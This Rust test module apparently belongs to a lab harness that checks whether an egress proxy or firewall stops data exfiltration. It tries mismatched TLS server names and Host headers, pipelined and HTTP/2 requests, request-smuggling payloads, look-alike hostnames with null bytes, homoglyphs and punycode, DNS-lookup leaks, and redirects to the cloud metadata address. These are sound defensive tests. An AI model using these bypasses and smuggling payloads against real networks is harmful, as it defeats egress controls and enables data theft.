//! Attacks 19, 20, 25, 31: another name inside an allowed connection, and names that look allowed.

use std::time::{Duration, Instant};

use cofferdam_lab::probe::hello::client_hello;
use cofferdam_lab::probe::{Outcome, Step, Task};

use crate::bench::ALLOWED;
use crate::house::CARELESS;
use crate::lookups;
use crate::place::{PROXY, Place};
use crate::trial::{Trial, http, request, tcp, word};

pub(crate) fn server_name(trial: &mut Trial<'_>) {
    trial.exfil("another name, CONNECT", |place, nonce| {
        let hello = client_hello(Some(&format!("{nonce}.test"))).unwrap();
        place.connect("allowed.test", 443, hello)
    });
    trial.exfil("another name", |place, nonce| {
        let hello = client_hello(Some(&format!("{nonce}.test"))).unwrap();
        place.ask(&tcp("allowed.test:443", hello))
    });
    trial.exfil("a name above", |place, nonce| {
        let hello = client_hello(Some(&format!("{nonce}.allowed.test"))).unwrap();
        place.ask(&tcp("allowed.test:443", hello))
    });
    trial.exfil("no TLS at all", |place, nonce| {
        place.ask(&word("allowed.test:443", nonce))
    });
    trial.exfil("in pieces", |place, nonce| {
        let hello = client_hello(Some(&format!("{nonce}.test"))).unwrap();
        place.ask(&pieces("allowed.test:443", &hello))
    });
    // These carry no nonce: what counts is that not one byte follows the handshake.
    for (what, name) in [("an address", Some("203.0.113.231")), ("no name", None)] {
        let hello = client_hello(name).unwrap();
        for by_proxy in [false, true] {
            let deed = |place: &Place| {
                if by_proxy {
                    place.connect("allowed.test", 443, hello.clone())
                } else {
                    place.ask(&tcp("allowed.test:443", hello.clone()))
                }
            };
            let outcome = deed(&trial.bench.open);
            trial.fires(what, !outcome.heard.is_empty(), &outcome);
            let mark = trial.bench.control.mark().unwrap();
            let outcome = deed(&trial.bench.wall);
            let visits = trial.bench.control.since(mark).unwrap().visits;
            let met = visits.iter().any(|visit| visit.what.starts_with("tls"));
            trial.refuses(what, !met, &(visits, &outcome));
            // 0x16 is the answer of a TLS server.
            trial.refuses(what, !outcome.heard.contains('\u{16}'), &outcome);
        }
    }
    let hello = client_hello(Some("allowed.test")).unwrap();
    let mark = trial.bench.control.mark().unwrap();
    let outcome = trial.bench.wall.ask(&pieces("allowed.test:443", &hello));
    let visits = trial.bench.control.since(mark).unwrap().visits;
    let met = visits.iter().any(|visit| visit.what == "tls allowed.test");
    trial.works("the right name in pieces", met, &(visits, outcome));
    trial.allowed_works();
}

fn pieces(to: &str, bytes: &[u8]) -> Task {
    let mut steps: Vec<Step> = bytes.chunks(7).map(Step::say).collect();
    steps.push(Step::HearAll);
    Task::Tcp {
        to: to.to_owned(),
        steps,
    }
}

pub(crate) fn host_header(trial: &mut Trial<'_>) {
    trial.exfil("another Host", |place, nonce| {
        place.ask(&http("allowed.test:80", &format!("{nonce}.test"), "/"))
    });
    trial.exfil("allowed in the line, another in Host", |place, nonce| {
        place.ask(&http(
            PROXY,
            &format!("{nonce}.test"),
            "http://allowed.test/",
        ))
    });
    trial.exfil("another in the line, allowed in Host", |place, nonce| {
        let line = format!("http://denied.test/{nonce}");
        place.ask(&http(PROXY, "allowed.test", &line))
    });
    trial.exfil("another line inside the connection", |place, nonce| {
        let line = format!("http://denied.test/{nonce}");
        place.ask(&http("allowed.test:80", "allowed.test", &line))
    });
    trial.exfil("two Hosts", |place, nonce| {
        let text = format!("GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: {nonce}.test\r\n\r\n");
        place.ask(&tcp("allowed.test:80", text))
    });
    // The first request is allowed and goes: only what an origin met counts.
    let second = |nonce: &str| request(&format!("{nonce}.test"), "/");
    let first = "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n";
    meets(trial, "the second request", |place, nonce| {
        place.ask(&Task::Tcp {
            to: "allowed.test:80".to_owned(),
            steps: vec![
                Step::say(first),
                Step::Hear,
                Step::say(second(nonce)),
                Step::HearAll,
            ],
        })
    });
    meets(trial, "two requests at once", |place, nonce| {
        place.ask(&tcp("allowed.test:80", [first, &second(nonce)].concat()))
    });
    meets(trial, "two requests by the proxy", |place, nonce| {
        let text = [first, &second(nonce)].concat();
        place.connect("allowed.test", 80, text.as_bytes())
    });
    meets(trial, "a second stream of HTTP/2", |place, nonce| {
        let authority = format!("{nonce}.test");
        let say = http2(&["allowed.test", &authority]);
        place.ask(&tcp("allowed.test:80", say))
    });
    smuggled(trial);
    let outcome = trial
        .bench
        .wall
        .ask(&tcp("allowed.test:80", http2(&["allowed.test"])));
    trial.works("HTTP/2", outcome.heard.contains("HTTP/2"), &outcome);
    trial.allowed_works();
}

/// As `exfil`, where the first request of the deed may go: no origin may meet the second.
fn meets(trial: &mut Trial<'_>, what: &str, deed: impl Fn(&Place, &str) -> Outcome) {
    let nonce = trial.nonce();
    let outcome = deed(&trial.bench.open, &nonce);
    trial.fires(what, !trial.visits(&nonce).is_empty(), &outcome);
    let nonce = trial.nonce();
    let outcome = deed(&trial.bench.wall, &nonce);
    let found = trial.found(&nonce);
    trial.refuses(what, found.is_empty(), &(&found, &outcome));
}

/// A request hidden in the body of another, for whoever counts its length in another way: here a server that does
/// not count at all, on the house, which a rule opens for http.
fn smuggled(trial: &mut Trial<'_>) {
    let to = format!("host.cofferdam.internal:{CARELESS}");
    let met = |trial: &Trial<'_>, nonce: &str| {
        let heard = trial.bench.house_services.heard(nonce);
        heard.iter().any(|text| text.starts_with("careless met"))
    };
    for (what, length, body) in [
        (
            "length and chunks",
            "Content-Length: 4\r\nTransfer-Encoding: chunked",
            "0\r\n\r\n",
        ),
        ("two lengths", "Content-Length: 0\r\nContent-Length: 60", ""),
        (
            "chunks in disguise",
            "Transfer-Encoding: xchunked\r\nContent-Length: 0",
            "",
        ),
    ] {
        let deed = |place: &Place, nonce: &str| {
            let hidden = request(&format!("{nonce}.test"), "/");
            let text = format!("POST / HTTP/1.1\r\nHost: {to}\r\n{length}\r\n\r\n{body}{hidden}");
            place.ask(&tcp(&to, text))
        };
        let nonce = trial.nonce();
        let outcome = deed(&trial.bench.open, &nonce);
        trial.fires(what, heard_soon(|| met(trial, &nonce)), &outcome);
        let nonce = trial.nonce();
        let outcome = deed(&trial.bench.wall, &nonce);
        trial.refuses(what, !met(trial, &nonce), &outcome);
        // What the server met of it, it wrote down when the connection was over.
        let end = trial.nonce();
        let path = format!("/\r\nHost: {end}");
        trial.bench.open.ask(&tcp(&to, request("x", &path)));
        assert!(
            heard_soon(|| met(trial, &end)),
            "the careless server is gone"
        );
        trial.refuses(what, !met(trial, &nonce), &outcome);
    }
    let nonce = trial.nonce();
    let text = format!(
        "POST / HTTP/1.1\r\nHost: {to}\r\nContent-Length: 4\r\nX: \r\nConnection: close\r\n\r\n{}",
        &nonce[..4]
    );
    let outcome = trial.bench.wall.ask(&tcp(&to, text));
    trial.works("a body", outcome.heard.contains("met"), &outcome);
}

/// The house writes things down in its own time.
fn heard_soon(heard: impl Fn() -> bool) -> bool {
    let start = Instant::now();
    while !heard() {
        if start.elapsed() > Duration::from_secs(5) {
            return false;
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    true
}

/// A connection of HTTP/2 with prior knowledge, one GET for each authority.
fn http2(authorities: &[&str]) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend([0, 0, 0, 4, 0, 0, 0, 0, 0]);
    for (authority, stream) in authorities.iter().zip([1_u8, 3, 5]) {
        // GET, http, /, and the authority as a literal.
        let mut block = vec![
            0x82,
            0x86,
            0x84,
            0x01,
            u8::try_from(authority.len()).unwrap(),
        ];
        block.extend(authority.as_bytes());
        bytes.extend([
            0,
            0,
            u8::try_from(block.len()).unwrap(),
            1,
            5,
            0,
            0,
            0,
            stream,
        ]);
        bytes.extend(block);
    }
    bytes
}

pub(crate) fn look_alikes(trial: &mut Trial<'_>) {
    trial.exfil("an allowed name as a prefix", |place, nonce| {
        let host = format!("allowed.test.{nonce}.test");
        place.ask(&http(&format!("{host}:80"), &host, "/"))
    });
    trial.exfil("an allowed name as a suffix", |place, nonce| {
        let host = format!("{nonce}allowed.test");
        place.ask(&http(&format!("{host}:80"), &host, "/"))
    });
    trial.exfil("a name below an allowed one", |place, nonce| {
        let host = format!("{nonce}.allowed.test");
        place.ask(&http(&format!("{host}:80"), &host, "/"))
    });
    trial.exfil("the apex of a wildcard", |place, nonce| {
        place.ask(&http("wild.test:80", "wild.test", &format!("/{nonce}")))
    });
    let long = "q".repeat(64);
    for pattern in [
        "allowed.test.NONCE.test",
        "NONCEallowed.test",
        "NONCE.allowed.test",
        "allowed.test:443@NONCE.test",
        "NONCE.test\0.allowed.test",
        "allowed.test\0.NONCE.test",
        "NONCE.test%00.allowed.test",
        "NONCE.test#.allowed.test",
        "NONCE.test?.allowed.test",
        "NONCE.test/.allowed.test",
        "NONCE.test\\.allowed.test",
        "NONCE..wild.test",
        ".NONCE.wild.test.NONCE.test",
        &format!("NONCE.{long}.wild.test"),
        "xn--allwed-NONCE.test",
        "NONCE.\u{0430}llowed.test",
        "NONCE.wild.test.",
        "*.NONCE.test",
    ] {
        // A name below the wildcard is allowed: with the dot at its end it is that name or none.
        let is_allowed = pattern == "NONCE.wild.test.";
        for form in ["CONNECT", "SOCKS5", "absolute"] {
            let what = format!("{pattern:?} by {form}");
            let deed = |place: &Place, nonce: &str| {
                let host = pattern.replace("NONCE", nonce);
                match form {
                    "CONNECT" => place.connect(&host, 80, request(&host, "/").as_bytes()),
                    "SOCKS5" => place.socks(&host, 80, request(&host, "/").as_bytes()),
                    _ => place.absolute(&host, 80, "/"),
                }
            };
            if is_allowed {
                let nonce = trial.nonce();
                let outcome = deed(&trial.bench.wall, &nonce);
                let strange = trial
                    .visits(&nonce)
                    .into_iter()
                    .any(|visit| visit.at.ip().to_string() != "203.0.113.66");
                trial.refuses(&what, !strange, &outcome);
            } else {
                trial.exfil(&what, deed);
            }
        }
        // Labels that are empty or too long are no message.
        let askable = !pattern.contains("..") && !pattern.starts_with('.') && pattern.len() < 63;
        if !is_allowed && askable {
            trial.exfil(&format!("{pattern:?} by a lookup"), |place, nonce| {
                lookups::address(place, &pattern.replace("NONCE", nonce))
            });
        }
    }
    let wall = &trial.bench.wall;
    for host in ["ALLOWED.TEST", "allowed.test.", "Allowed.Test"] {
        let outcome = wall.ask(&http(&format!("{host}:80"), host, "/"));
        let there = outcome.heard.contains(&format!("\"at\":\"{ALLOWED}:80\""));
        trial.works(host, there || outcome.heard.contains(" 400 "), &outcome);
    }
    let outcome = wall.ask(&http("one.wild.test:80", "one.wild.test", "/"));
    let there = outcome.heard.contains("203.0.113.66:80");
    trial.works("below the wildcard", there, &outcome);
    trial.allowed_works();
}

pub(crate) fn redirection(trial: &mut Trial<'_>) {
    for (what, target, follow) in [
        ("a denied name", "http://denied.test/", "denied.test:80"),
        ("metadata", "http://169.254.169.254/", "169.254.169.254:80"),
    ] {
        let line = format!("/redirect?{target}");
        let mark = trial.bench.control.mark().unwrap();
        let wall = &trial.bench.wall;
        let direct = wall.ask(&http("allowed.test:80", "allowed.test", &line));
        let proxied = wall.absolute("allowed.test", 80, &line);
        for outcome in [direct, proxied] {
            let passed = outcome.heard.contains("302") && outcome.heard.contains(target);
            trial.works(what, passed, &outcome);
        }
        let visits = trial.bench.control.since(mark).unwrap().visits;
        let elsewhere = visits
            .iter()
            .any(|visit| visit.at.ip().to_string() != ALLOWED);
        trial.refuses(what, !elsewhere, &visits);
        trial.exfil(what, |place, nonce| {
            let (host, _) = follow.split_once(':').unwrap();
            place.ask(&http(follow, host, &format!("/{nonce}")))
        });
    }
    trial.allowed_works();
}
